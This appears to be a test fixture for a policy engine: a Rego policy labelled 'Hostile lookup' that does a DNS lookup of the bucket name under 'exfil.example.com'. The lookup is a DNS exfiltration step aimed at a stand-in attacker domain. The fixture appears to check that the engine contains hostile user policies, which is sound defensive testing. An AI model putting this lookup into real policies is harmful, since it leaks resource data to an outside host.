package hostile.lookup

# METADATA
# title: Hostile lookup
# description: A user policy that tries to resolve a name (DNS exfiltration).
# custom:
#   id: HOSTILE-2
#   severity: low
#   resource_type: bucket
#   remediation: {text: none, cli: none}
#   controls: [{framework: Test, version: "1", id: "0", title: none}]
deny contains {"rule": rego.metadata.rule().custom.id, "resource": {"type": "bucket", "bucket": input.bucket.name}, "message": "resolved"} if {
	addrs := net.lookup_ip_addr(sprintf("%s.exfil.example.com", [input.bucket.name]))
	count(addrs) > 0
}
